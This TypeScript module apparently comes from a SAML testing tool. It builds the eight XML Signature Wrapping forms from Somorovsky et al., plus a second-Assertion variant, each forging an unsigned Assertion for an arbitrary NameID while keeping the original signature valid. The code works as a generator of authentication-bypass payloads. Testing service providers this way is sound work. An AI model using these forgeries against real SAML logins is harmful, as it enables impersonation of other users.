// Signature wrapping: a forged element is placed where a careless service provider reads it. The signed original is
// moved to where its signature still refers to it. The eight forms are those of Somorovsky et al., "On Breaking SAML:
// Be Whoever You Want to Be" (USENIX Security 2012), §4. Only `ID` and NameID of the forged element differ from the
// original.
import { withChildren } from '#shared/protocol/saml/edit-tree.ts';
import { ds, saml2p } from '#shared/protocol/saml/vocabulary.ts';
import type { XmlElement } from '#shared/protocol/saml/xml-element.ts';
import {
  isSigned,
  ofLogin,
  type SamlChange,
  type SamlSite,
  signatureOf,
  unsigned,
  withAssertions,
  withFreshId,
  withSignature,
} from './saml-change.ts';
import { beforeStatus } from './signatures.ts';
import { withNameId } from './subject.ts';

interface WrappedResponse {
  /** The signed Response, without its Signature. */
  readonly original: XmlElement;
  readonly signature: XmlElement;
  /** Another Response with an unsigned Assertion about another user. */
  readonly forged: XmlElement;
}

function wrappingResponse(nameId: string, wrap: (parts: WrappedResponse) => XmlElement): SamlChange {
  return ofLogin(async ({ response, assertion }, answer, site) => {
    const original = withAssertions(unsigned(response), [unsigned(assertion)]);
    const forgedAssertion = forge(assertion, nameId, site);
    if (forgedAssertion === undefined || (!isSigned(response) && !isSigned(assertion))) return undefined;
    const signature = signatureOf(await site.answerTools.signed(original));
    if (signature === undefined) return undefined;
    const forged = withFreshId(withAssertions(original, [forgedAssertion]), site);
    return { ...answer, response: wrap({ original, signature, forged }) };
  });
}

/** The forged Response is outermost, the signed Response is inside its Signature. */
export const xsw1 = (nameId: string): SamlChange =>
  wrappingResponse(nameId, ({ original, signature, forged }) => withSignature(forged, holding(signature, original)));

/** As xsw1, with the Signature detached and placed before the signed Response. */
export const xsw2 = (nameId: string): SamlChange =>
  wrappingResponse(nameId, ({ original, signature, forged }) =>
    beforeStatus(withSignature(forged, signature), original),
  );

interface WrappedAssertion {
  readonly response: XmlElement;
  /** The Assertion with its Signature. */
  readonly signed: XmlElement;
  /** The Assertion without its Signature. */
  readonly original: XmlElement;
  readonly signature: XmlElement;
  /** About another user, unsigned. */
  readonly forged: XmlElement;
}

/** The signature of the Response is removed, because no forged Assertion would leave it valid. */
function wrappingAssertion(nameId: string, wrap: (parts: WrappedAssertion) => XmlElement): SamlChange {
  return ofLogin(({ response, assertion }, answer, site) => {
    const signature = signatureOf(assertion);
    const forged = forge(assertion, nameId, site);
    if (signature === undefined || forged === undefined) return undefined;
    const parts = { response: unsigned(response), signed: assertion, original: unsigned(assertion), signature, forged };
    return { ...answer, response: wrap(parts) };
  });
}

/** The forged Assertion before the signed one. */
export const xsw3 = (nameId: string): SamlChange =>
  wrappingAssertion(nameId, ({ response, signed, forged }) => withAssertions(response, [forged, signed]));

/** The signed Assertion inside the forged one. */
export const xsw4 = (nameId: string): SamlChange =>
  wrappingAssertion(nameId, ({ response, signed, forged }) => withAssertions(response, [holding(forged, signed)]));

/** The forged Assertion carries the Signature, and the signed one is at the end. */
export const xsw5 = (nameId: string): SamlChange =>
  wrappingAssertion(nameId, ({ response, original, signature, forged }) =>
    withAssertions(response, [withSignature(forged, signature), original]),
  );

/** The signed Assertion inside the Signature of the forged one. */
export const xsw6 = (nameId: string): SamlChange =>
  wrappingAssertion(nameId, ({ response, original, signature, forged }) =>
    withAssertions(response, [withSignature(forged, holding(signature, original))]),
  );

/** The forged Assertion inside Extensions, the signed one in its usual position. */
export const xsw7 = (nameId: string): SamlChange =>
  wrappingAssertion(nameId, ({ response, forged }) => beforeStatus(response, saml2p('Extensions', {}, [forged])));

/** The signed Assertion inside an Object of the forged one's Signature. */
export const xsw8 = (nameId: string): SamlChange =>
  wrappingAssertion(nameId, ({ response, original, signature, forged }) =>
    withAssertions(response, [withSignature(forged, holding(signature, ds('Object', {}, [original])))]),
  );

/**
 * An unsigned second Assertion behind the signed one. The Response is not signed, because the added Assertion would
 * invalidate its signature.
 */
export const twoAssertions = (nameId: string): SamlChange =>
  ofLogin(({ response, assertion }, answer, site) => {
    if (isSigned(response) && !isSigned(assertion)) return undefined;
    const forged = forge(assertion, nameId, site);
    return forged && { ...answer, response: withAssertions(unsigned(response), [assertion, forged]) };
  });

function forge(assertion: XmlElement, nameId: string, site: SamlSite): XmlElement | undefined {
  const renamed = withNameId(unsigned(assertion), nameId);
  return renamed && withFreshId(renamed, site);
}

function holding(element: XmlElement, inner: XmlElement): XmlElement {
  return withChildren(element, [...element.children, inner]);
}
